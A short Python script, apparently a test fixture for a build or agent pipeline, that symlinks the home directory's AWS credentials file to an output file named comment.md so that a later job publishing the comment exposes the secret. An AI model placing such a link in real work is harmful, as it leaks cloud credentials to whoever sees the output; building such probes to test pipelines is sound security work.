"""Hands out a link to a secret, for a job that follows it."""

import json
import sys

WORLD = json.loads(sys.argv[1])
import os

os.symlink(WORLD["home"] + "/.aws/credentials", WORLD["output"] + "/comment.md")
